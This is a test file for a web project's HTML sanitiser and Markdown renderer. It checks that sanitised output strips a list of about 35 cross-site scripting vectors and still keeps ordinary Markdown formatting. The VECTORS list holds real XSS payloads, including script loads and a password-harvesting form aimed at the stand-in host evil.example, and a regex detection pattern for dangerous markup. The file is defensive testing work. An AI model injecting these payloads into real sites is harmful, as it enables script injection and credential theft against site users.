import { describe, expect, it } from "vitest";
import { renderMarkdown } from "~/lib/markdown.server";
import { safeHtml } from "~/lib/safe-html.server";

/** Real vectors, from the lists scanners and filter-evasion cheat sheets use. */
const VECTORS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="javascript:alert(1)">`,
  `<IMG SRC=JaVaScRiPt:alert(1)>`,
  `<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<style>body{background:url("javascript:alert(1)")}</style>`,
  `<p style="background-image:url(javascript:alert(1))">x</p>`,
  `<div onmouseover="alert(1)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><script>alert(1)</script></textarea>`,
  `"><script>alert(1)</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<a href="https://example.com" target="_blank" onclick="alert(1)">x</a>`,
  `<template><script>alert(1)</script></template>`,
];

/** What no sanitised HTML may contain, whatever went in. */
const DANGER =
  /<(script|iframe|object|embed|form|input|button|style|svg|math|meta|base|link|template|textarea)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:|srcdoc|href="\/\//i;

describe("safe HTML", () => {
  it.each(VECTORS)("leaves nothing that runs of %s", (vector) => {
    expect(safeHtml(vector)).not.toMatch(DANGER);
    // The same vector written into Markdown, as a member of staff might paste it.
    const html = renderMarkdown(`Text ${vector} text\n`);
    expect(html).not.toMatch(DANGER);
  });

  it("keeps what Markdown writes: headings, links, images, lists, tables and code", () => {
    const html = renderMarkdown(
      [
        "## A heading",
        "",
        'A [link](https://nakshilabs.com.bd/contact "Contact"), [a page](/pricing), [mail](mailto:hello@nakshilabs.com.bd) and [a call](tel:+8809610123456).',
        "",
        "![A shop front in Dhanmondi](/images/blog/shop.avif)",
        "",
        "1. one",
        "2. two",
        "",
        "| a | b |",
        "|:--|--:|",
        "| 1 | 2 |",
        "",
        "```ts",
        "const a = 1 < 2;",
        "```",
        "",
        "> **Bold** and *emphasis*, ~~struck~~.",
      ].join("\n"),
    );
    expect(html).toContain("<h2>A heading</h2>");
    expect(html).toContain('<a href="https://nakshilabs.com.bd/contact" title="Contact">link</a>');
    expect(html).toContain('<a href="/pricing">a page</a>');
    expect(html).toContain('<a href="mailto:hello@nakshilabs.com.bd">mail</a>');
    expect(html).toContain('<a href="tel:+8809610123456">a call</a>');
    expect(html).toContain('<img src="/images/blog/shop.avif" alt="A shop front in Dhanmondi" />');
    expect(html).toContain("<ol>\n<li>one</li>");
    expect(html).toContain('<th align="left">a</th>');
    expect(html).toContain('<code class="language-ts">const a = 1 &lt; 2;');
    expect(html).toContain(
      "<blockquote>\n<p><strong>Bold</strong> and <em>emphasis</em>, <del>struck</del>.</p>",
    );
  });
});
